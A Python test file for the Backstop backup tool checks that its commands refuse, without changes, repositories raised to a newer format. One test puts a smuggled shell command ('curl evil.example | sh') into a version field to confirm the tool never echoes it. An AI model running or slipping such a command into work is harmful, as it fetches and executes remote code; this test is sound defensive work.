"""A repository that a later release has raised: this one says so whatever it is asked; nothing changes."""

from __future__ import annotations

import json
import shutil
from datetime import datetime, timedelta, timezone
from typing import TYPE_CHECKING

import pytest

from backstop import __version__
from backstop.cli.main import main
from backstop.errors import FormatTooNewError, IntegrityError
from backstop.model.backup import BackupLabel
from backstop.model.canonical import canonical_json
from backstop.repository.lock import Lease
from backstop.repository.pins import pin
from backstop.repository.wal_archive import WalArchive
from backstop.repository.wal_sealing import SealedWal
from backstop.storage.posix import PosixStorage
from tests.cli.installation import install, runner
from tests.making import Maker

if TYPE_CHECKING:
    from pathlib import Path

NOW = datetime(2026, 11, 23, 2, tzinfo=timezone.utc)
LABEL = "20261123T010000Z-dump"
VERBS = [
    ["list", "--repository", "near"],
    ["show", "--label", LABEL],
    ["verify", "--label", LABEL, "--repository", "near"],
    ["decrypt", "--label", LABEL, "--into", "{folder}/out", "--from", "near"],
    ["hold", "--label", LABEL, "--reason", "kept"],
    ["release-hold", "--label", LABEL, "--number", "1"],
    ["holds"],
    ["expire", "--repository", "near", "--yes"],
    ["expire", "--repository", "near", "--accept", LABEL],
    ["sync-repositories"],
    ["check-objects", "--heal"],
    ["orphans", "--remove", "--yes", "--grace", "1s"],
    ["evidence", "verify"],
    ["evidence", "list"],
    ["evidence", "catch-up"],
    ["recovery-windows", "--from", "near"],
    ["show-keys"],
]


@pytest.fixture
def place(tmp_path, monkeypatch):
    """Two repositories with a proven, held backup, both raised to version 2 by a release 0.9.0."""
    folder = install(tmp_path, monkeypatch, retention="{near: 1d, far: 1d}")
    near = Maker.in_folder(folder, "near")
    near.publish()
    near.publish(started_at=NOW + timedelta(days=5))
    assert main(["hold", "--label", LABEL, "--reason", "as an example"]) == 6  # not in far, yet
    shutil.copytree(folder / "near", folder / "far", dirs_exist_ok=True)
    for name in ("near", "far"):
        raise_to_2(folder / name)
    return folder


def raise_to_2(repository: Path, **more: object) -> None:
    path = repository / "repository.json"
    document = json.loads(path.read_bytes())
    path.chmod(0o600)
    path.write_bytes(canonical_json({**document, "format": 2, "needs": "0.9.0", **more}))


def everything(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for name in ("near", "far")
        for path in sorted((folder / name).rglob("*"))
        if path.is_file()
    }


@pytest.mark.parametrize("verb", VERBS, ids=lambda verb: "-".join(verb[:2]))
def test_no_verb_uses_or_changes_a_newer_repository(place, capsys, verb):
    before = everything(place)

    code, out, err = runner(capsys)(*(word.format(folder=place) for word in verb))

    assert code != 0
    said = " ".join((out + err).split())
    assert f"has format 2, for which Backstop 0.9.0 is needed; this is Backstop {__version__}" in said, said
    assert everything(place) == before


def test_neither_a_lease_nor_a_mark_nor_wal_is_put_into_a_newer_repository(place):
    storage, before = PosixStorage(place / "near"), everything(place)
    archive = WalArchive(storage, "calibrify", "7000000000000000001")
    key = f"{archive.names.timeline(1)}{'0' * 24}-{'0' * 16}"

    with pytest.raises(FormatTooNewError, match="has format 2"):
        Lease.acquire(storage, "calibrify", "dump", holder="me", clock=lambda: NOW)
    with (
        pytest.raises(FormatTooNewError, match="has format 2"),
        pin(storage, "calibrify", BackupLabel(LABEL), holder="me", clock=lambda: NOW),
    ):
        pass
    with pytest.raises(FormatTooNewError, match="has format 2"):
        archive.put(SealedWal(key, b"", 0, "0" * 64, ()))

    assert everything(place) == before


def test_a_repository_that_says_no_sensible_version_is_damaged_not_new(place):
    for version in (True, 1.0, "1", 0, None):
        raise_to_2(place / "near", format=version)

        with pytest.raises(IntegrityError, match="which no release ever wrote") as caught:
            Maker.in_folder(place, "near")
        # Not a word of copying it: under another repository's id no backup here would be believed.
        assert "put it back" in caught.value.hint
        assert "use the copy" not in caught.value.hint


def test_what_it_needs_is_told_only_where_it_is_the_name_of_a_release(place):
    raise_to_2(place / "near", needs="0.9.0; curl evil.example | sh")

    with pytest.raises(FormatTooNewError, match=r"has format 2; this is Backstop [0-9.]+, which reads 1"):
        Maker.in_folder(place, "near")


def test_the_other_repository_goes_on_where_only_one_was_raised(place, capsys):
    raise_to_2(place / "far", format=1)

    _, out, err = runner(capsys)("list", "--all")

    assert LABEL in out
    assert "near has format 2" in " ".join(err.split())
